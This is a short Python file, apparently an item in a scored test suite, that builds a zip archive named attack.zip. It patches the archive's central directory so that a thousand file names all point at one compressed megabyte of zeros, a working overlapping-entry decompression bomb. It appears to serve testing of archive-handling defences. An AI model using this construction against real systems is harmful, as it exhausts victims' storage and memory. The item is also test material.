"""A table of contents in which a thousand names share the same compressed megabyte.

Earns: 2
Class: 14 15
Form: build
"""

import struct
import zipfile


def build(folder, files):
    target = folder / "attack.zip"
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, content in files.items():
            archive.writestr(path, content)
        archive.writestr("shapes/000.txt", bytes(10**6))
    data = target.read_bytes()
    end = data.rindex(b"PK\5\6")
    count, size, start = struct.unpack("<HII", data[end + 10 : end + 20])
    table = data[start : start + size]
    entry = table[table.rindex(b"PK\1\2") :]
    copies = [entry.replace(b"000.txt", b"%03d.txt" % number) for number in range(1, 1000)]
    table += b"".join(copies)
    tail = data[end : end + 8] + struct.pack("<HHII", count + 999, count + 999, len(table), start)
    target.write_bytes(data[:start] + table + tail + b"\0\0")
    return target
